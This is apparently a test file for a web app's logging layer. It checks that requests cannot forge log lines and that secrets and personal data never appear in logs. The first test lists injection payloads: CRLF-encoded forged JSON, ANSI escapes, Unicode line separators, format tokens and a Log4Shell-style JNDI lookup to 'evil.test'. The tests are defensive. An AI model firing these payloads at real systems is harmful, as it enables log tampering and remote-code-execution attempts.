import pino from 'pino';
import supertest from 'supertest';
import { apiPaths } from '../../data/site/api-paths.ts';
import { paths } from '../../data/site/paths.ts';
import { createOneTimeLink } from '../../server/features/inbox/sign-in/one-time-link.ts';
import { loggedError } from '../../server/platform/logging/logging.ts';
import { adminPassword, adminToken, asConsumer, cookieOf, fromOwnPage } from '../support/api-app.ts';
import { aContactMessage, aSubscription } from '../support/builders.ts';
import { withAddresses } from '../support/content.ts';
import { freshDatabase } from '../support/databases.ts';
import { rawSite } from '../support/raw-http.ts';
import { startedOnce } from '../support/started.ts';
import { createTestApp } from '../support/test-app.ts';

const database = startedOnce(() => freshDatabase('sqlite'));

/** The site with a log that records each write as text. */
function loggingSite(environment: Record<string, string> = {}, content = withAddresses('shortened')) {
  const written: string[] = [];
  const log = pino(
    { level: 'trace', base: null, serializers: { err: loggedError } },
    { write: (text) => written.push(text) },
  );
  const settings = { ADMIN_PASSWORD: adminPassword, ADMIN_TOKEN: adminToken, ...environment };
  const { app } = createTestApp(database.db, settings, { log, content: () => content });
  return { app, request: supertest(app), lines: () => written.join('').split('\n').filter(Boolean), written };
}

test('no request can forge a log line: each write is one line of JSON', async () => {
  const { app, lines, written } = loggingSite({ TRUST_PROXY: 'loopback' }, withAddresses('full'));
  const site = await rawSite(app);
  const forged = '{"level":"fatal","msg":"forged"}';
  const payloads = [
    `"}${forged}`,
    `%0a${forged}`,
    `%0d%0a${forged}`,
    '%1b[31mred%1b[0m',
    '\\u000a\\',
    '\u0080\u0085\u009b31m',
    `%e2%80%a8${forged}`,
    '$\u007bjndi:ldap://evil.test/a}',
    '%s%d%j%o',
  ];
  try {
    for (const payload of payloads) {
      const target = payload.replaceAll(' ', '%20').replaceAll('"', '%22');
      for (const line of [
        `GET /${target} HTTP/1.1\r\nHost: localhost`,
        `GET /about?${target} HTTP/1.1\r\nHost: localhost`,
        `GET /about HTTP/1.1\r\nHost: localhost\r\nUser-Agent: ${payload}\r\nReferer: ${payload}`,
        `GET /about HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: ${payload}\r\nX-Request-Id: ${payload}`,
        `GET /about HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: "},\t${forged}\r\nCookie: language=${payload}`,
        `PROPFIND /${target} HTTP/1.1\r\nHost: localhost`,
      ])
        await site.exchange(`${line}\r\nConnection: close\r\n\r\n`);
    }
  } finally {
    await site.end();
  }
  for (const write of written) expect(write.match(/\n/g)).toHaveLength(1);
  const parsed = lines().map((line) => JSON.parse(line) as Record<string, unknown>);
  expect(parsed.length).toBeGreaterThanOrEqual(payloads.length * 4);
  for (const line of parsed) expect(line.msg).not.toBe('forged');
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the test's purpose
  for (const line of lines()) expect(line).not.toMatch(/[\u0000-\u001f\u007f]/);
});

test('the log has no password, token, cookie, email address or message at any level', async () => {
  const { request, lines } = loggingSite();
  const wrong = 'a password that is wrong';
  const message = aContactMessage({ message: 'what nobody else may read', lastName: 'Verschwiegen' });
  const link = await createOneTimeLink(database.db);
  await request.post(apiPaths.contact).send(message);
  await request.post(apiPaths.contact).send({ ...message, subject: 'bad' });
  await request
    .post(apiPaths.contact)
    .type('form')
    .send({ ...message, page: '/contact', lang: 'de' });
  await request.post(apiPaths.subscribe).send(aSubscription());
  await request.post(apiPaths.subscribe).send(aSubscription());
  await request.post(apiPaths.session).send({ password: wrong });
  await request.post(apiPaths.session).type('json').send(`{"password":"${wrong}`);
  const cookie = cookieOf(
    await request.post(apiPaths.session).set(fromOwnPage()).send({ password: adminPassword }),
  );
  await request
    .post(`${paths.admin}/sign-in`)
    .type('form')
    .send({ token: link.replace(/^.*=/, '') });
  await request.get(link);
  for (const query of ['', '?format=csv', `?q=${message.lastName}`, '?limit=x'])
    await request.get(`${apiPaths.messages}${query}`).set({ cookie });
  await request.get(`${apiPaths.person}?email=${message.email}`).set(asConsumer);
  await request.get(`/${message.email}/${encodeURIComponent(message.email)}`);
  await request.get(apiPaths.messages).set('authorization', 'Bearer a-token-that-is-wrong');
  await request.get(paths.contact).set({ cookie });
  await request.delete(apiPaths.session).set(fromOwnPage(cookie));

  const text = lines().join('\n');
  const secrets = [
    wrong,
    adminPassword,
    adminToken,
    'a-token-that-is-wrong',
    cookie.replace(/^.*=/, ''),
    link.replace(/^.*=/, ''),
    message.email,
    message.lastName,
    message.message,
    aSubscription().email,
  ];
  for (const secret of secrets) expect([secret, text.includes(secret)]).toEqual([secret, false]);
  for (const event of ['sign-in', 'sign-out', 'export', 'person-export'])
    expect(text).toContain(`"event":"${event}"`);
});

test('a request without permission is logged with its status and client', async () => {
  const { request, lines } = loggingSite();
  await request.get(apiPaths.messages);
  await request.delete(`${apiPaths.person}?email=a@post.example`);
  await request.post(apiPaths.session).set('origin', 'https://evil.test').send({ password: adminPassword });
  const requests = lines().map((line) => JSON.parse(line));
  expect(requests.map(({ status }) => status)).toEqual([401, 401, 403]);
  for (const line of requests) {
    expect(line).toMatchObject({
      msg: 'request',
      method: expect.any(String),
      path: expect.stringMatching(/^\/api\//),
    });
    expect([typeof line.id, typeof line.client, typeof line.time]).toEqual(['string', 'string', 'number']);
  }
});
